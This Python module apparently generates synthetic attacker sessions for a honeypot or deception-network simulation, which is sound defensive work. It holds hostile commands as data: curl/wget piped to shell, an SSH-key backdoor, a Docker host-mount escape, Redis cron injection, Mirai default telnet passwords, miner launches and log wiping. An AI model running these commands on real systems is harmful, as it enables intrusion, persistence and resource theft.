# SPDX-License-Identifier: MIT
"""What a visit in the seventh world consists of."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CertificateProbed,
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    ServiceRequest,
    SessionClosed,
    SessionOpened,
    SshKex,
    TcpStack,
    TlsClient,
    TlsProbed,
)
from planted.arsenal import Client, Key, client, hexadecimal, word

Credential = tuple[str, str]
SYSTEMS = tuple(client(Random(f"seventh system {number}")) for number in range(24))
"""Stock systems and libraries, the first ones most."""
DAILY = (
    *("uname -a", "id", "cat /proc/cpuinfo | grep name", "df -h", "w", "ls -la", "ps aux | head", "cat /etc/hosts"),
    *("ip addr", "nproc", "cat /etc/issue", "uptime", "last -5", "free -m", "which python3", "env"),
)
WEAK = ("123456", "root", "admin", "1234", "password", "qwerty", "111111", "ubuntu", "12345678", "test123")
BROWSERS = tuple(
    f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/{number}.0.0.0" for number in range(100, 126)
)
MANUAL = (
    "cat > /etc/systemd/system/{a}.service",
    "rsync -az --exclude={b} /home/ /var/lib/{a}/",
    "openssl enc -aes-256-cbc -in /root/{a}.tar -out /root/{b}.enc -k {a}{b}",
    "sqlite3 /var/lib/{a}.db '.dump {b}'",
    "socat TCP-LISTEN:{n},fork,reuseaddr EXEC:/bin/{a}",
    "mkdir -p /usr/share/{a}/{b} && cd /usr/share/{a}/{b}",
    "sed -i 's/{a}/{b}/' /etc/profile.d/{a}.sh",
    "python3 -c 'import {a}; {a}.{b}()'",
    "ln -sf /dev/null /var/log/{a}.log",
    "iptables -I INPUT -s {b}.{a}.org -j ACCEPT",
    "mv /usr/bin/{a} /usr/bin/.{b}",
    "git clone https://gitlab.com/{a}{b}/{b}.git /opt/{a}",
)


def system(dice: Random) -> Client:
    return SYSTEMS[int(24 * dice.random() ** 2)]


def manual(dice: Random, number: int) -> tuple[str, ...]:
    """Return lines that only one person types."""
    return tuple(
        line.replace("{a}", word(dice, 2))
        .replace("{b}", word(dice, 2))
        .replace("{n}", str(dice.randrange(2000, 60000)))
        for line in dice.sample(MANUAL, number)
    )


def connect(at: Client, service: str = "ssh") -> Iterator[Payload]:
    yield ConnectionOpened(service)
    yield TcpStack("syn", "4:64", at.stack)
    if service == "ssh":
        yield SshKex("client", at.banner, at.hassh, "")


def weak(dice: Random, most: int) -> Iterator[Payload]:
    for _ in range(dice.randrange(1, most + 1)):
        yield LoginAttempt("ssh", dice.choice(("root", "admin", "user")), False, password=dice.choice(WEAK))


def try_list(dice: Random, at: Client, secrets: Sequence[Credential], number: int) -> Iterator[Payload]:
    """Try a stretch of a list, from somewhere on, in its order."""
    yield from connect(at)
    start = dice.randrange(max(1, len(secrets) - number))
    for user, secret in secrets[start : start + number]:
        yield LoginAttempt("ssh", user, False, password=secret)
    yield from weak(dice, 2)


class Kit(NamedTuple):
    """What is sold to several: a client, lines, a list, a server of programs and the password that it sets."""

    at: Client
    lines: tuple[str, ...]
    secrets: tuple[Credential, ...]
    url: str
    payload: str
    secret: str


class Owner(NamedTuple):
    """What somebody has of their own."""

    at: Client
    key: Key
    lines: tuple[str, ...]
    wallet: str
    server: str
    certificate: str


def use_kit(dice: Random, kit: Kit, one: Owner, own: float) -> Iterator[Payload]:
    """Let a bought kit work, with something of one's own now and then."""
    yield from connect(kit.at)
    for user, secret in dice.sample(kit.secrets, min(len(kit.secrets), dice.randrange(3, 9))):
        yield LoginAttempt("ssh", user, False, password=secret)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(WEAK))
    yield from (CommandRun("ssh", line) for line in kit.lines if dice.random() < 0.8)
    if dice.random() < 0.6:
        yield CommandRun("ssh", f"curl -s {kit.url} -o /tmp/.k && sh /tmp/.k")
        yield FileCaptured("ssh", kit.payload, 70_000, None, kit.url)
    if dice.random() < 0.3:
        yield CommandRun("ssh", f"echo 'root:{kit.secret}' | chpasswd")
    if dice.random() < own:
        yield CommandRun("ssh", dice.choice((f"./k -u {one.wallet}", f"echo {one.key.line} >> ~/.ssh/authorized_keys")))


def by_hand(dice: Random, one: Owner, way_in: Credential | None) -> Iterator[Payload]:
    """Log in with one's key or with a password, and work."""
    yield from connect(one.at)
    if way_in is None:
        yield LoginAttempt("ssh", "root", True, "publickey", public_key=one.key.fingerprint)
    else:
        yield LoginAttempt("ssh", way_in[0], True, password=way_in[1])
    yield SessionOpened("ssh", "root", "xterm-256color")
    lines = [
        *dice.sample(DAILY, dice.randrange(1, 5)),
        *dice.sample(one.lines, min(len(one.lines), dice.randrange(1, 4))),
    ]
    if one.server and dice.random() < 0.4:
        lines.append(f"wget http://{one.server}/{word(Random(one.server), 2)} -qO- | bash")
    yield from (CommandRun("ssh", line) for line in lines)
    yield SessionClosed("ssh", dice.randrange(60_000, 2_000_000), len(lines))


def answer_probe(_: Random, one: Owner, ts: int) -> Iterator[Payload]:
    """Show what the prober finds at an address of somebody's: a server with a certificate."""
    yield CertificateProbed(ts, one.certificate, subject="CN=localhost")
    yield TlsProbed(ts, hexadecimal(Random(one.certificate), 62))


def stuff(dice: Random, secrets: Sequence[Credential], ja4: str, agent: str) -> Iterator[Payload]:
    """Try logins at a Web page's form."""
    yield from connect(system(dice), "http")
    yield TlsClient("tcp", "0" * 32, ja4, 0x0304)
    yield HttpClient("POST", "HTTP/1.1", "library", hexadecimal(Random(ja4), 32), ("Host", "User-Agent"), agent)
    for user, secret in dice.sample(secrets, min(len(secrets), dice.randrange(3, 12))):
        yield HttpRequest("POST", "/wp-login.php", user_agent=agent, status=200, body=f"log={user}&pwd={secret}")
        yield LoginAttempt("http", user, False, password=secret)


class Build(NamedTuple):
    """A botnet's program in some days."""

    applet: str
    host: str
    name: str
    payloads: tuple[str, ...]


def infect(dice: Random, build: Build) -> Iterator[Payload]:
    """Spread by telnet from a device, with the published source's lines."""
    yield from connect(SYSTEMS[20 + dice.randrange(4)], "telnet")
    for secret in dice.sample(("xc3511", "vizxv", "juantech", "anko", "7ujMko0vizxv", "ikwb"), 2):
        yield LoginAttempt("telnet", "root", False, password=secret)
    yield LoginAttempt("telnet", "root", True, password="xmhdipc")
    lines = ("enable", "system", "shell", "sh", f"/bin/busybox {build.applet}")
    fetch = f"/bin/busybox tftp -g -l {build.name} -r {build.name}.arm {build.host}; ./{build.name} telnet"
    yield from (CommandRun("telnet", line) for line in (*lines, fetch))
    if dice.random() < 0.5:
        yield FileCaptured("telnet", dice.choice(build.payloads), 40_000, None, f"http://{build.host}/{build.name}.arm")


class Cloud(NamedTuple):
    """A group that takes over clusters: what its worm leaves."""

    host: str
    account: str
    key: Key
    wallet: str
    path: str


def take_cluster(dice: Random, cloud: Cloud) -> Iterator[Payload]:
    """Use an open API of Docker's, of Redis or an ssh without a password."""
    kind = dice.randrange(3)
    if kind == 0:
        yield from connect(system(dice), "docker")
        image = dice.choice(("alpine", "docker.io/library/ubuntu", f"{cloud.account}/{word(Random(cloud.account), 2)}"))
        command = ["chroot", "/host", "sh", "-c", f"curl http://{cloud.host}/{cloud.path}/d.sh | sh"]
        body = json.dumps({"Image": image, "Cmd": command, "HostConfig": {"Binds": ["/:/host"]}})
        yield HttpRequest("POST", "/v1.41/containers/create", user_agent="docker/24.0", status=201, body=body)
    elif kind == 1:
        yield from connect(system(dice), "redis")
        yield ServiceRequest(
            "redis", "SET", {"ARGS": f"b \\n*/5 * * * * root curl http://{cloud.host}/{cloud.path}/r.sh|sh"}
        )
        yield ServiceRequest("redis", "SET", {"ARGS": f"k \\n{cloud.key.line}\\n"})
    else:
        yield from connect(system(dice))
        yield from weak(dice, 3)
        yield LoginAttempt("ssh", "root", True, password=dice.choice(WEAK))
        yield CommandRun("ssh", f"curl http://{cloud.host}/{cloud.path}/s.sh | sh")
        if dice.random() < 0.5:
            yield CommandRun(
                "ssh", f"/var/tmp/.m/m -o stratum+tcp://pool.example:80 -u {cloud.wallet}.{dice.randrange(999)}"
            )


def survey(dice: Random, agent: str, ja4: str) -> Iterator[Payload]:
    yield from connect(SYSTEMS[0], "https")
    yield TlsClient("tcp", "0" * 32, ja4, 0x0303)
    for path in dice.sample(("/", "/robots.txt", "/favicon.ico", "/status", "/version"), 2):
        yield HttpRequest("GET", path, user_agent=agent, status=200)


def glance(dice: Random) -> Iterator[Payload]:
    """Come in by a weak password, look, and go."""
    yield from connect(system(dice))
    yield from weak(dice, 6)
    yield LoginAttempt("ssh", "root", True, password=dice.choice(WEAK))
    yield from (CommandRun("ssh", line) for line in dice.sample(DAILY, dice.randrange(1, 5)))


def crawl(dice: Random) -> Iterator[Payload]:
    """Ask Web pages for what everybody asks for."""
    yield from connect(system(dice), "http")
    agent = dice.choice(BROWSERS)
    for path in dice.sample(("/.env", "/wp-login.php", "/actuator/health", "/cgi-bin/luci", "/phpinfo.php"), 2):
        yield HttpRequest("GET", path, user_agent=agent, status=404)


def offer(dice: Random, key: str) -> Iterator[Payload]:
    """Offer a key that was found in public, among others."""
    yield from connect(system(dice))
    yield LoginAttempt("ssh", "git", False, "publickey", public_key=key)
    yield from weak(dice, 3)
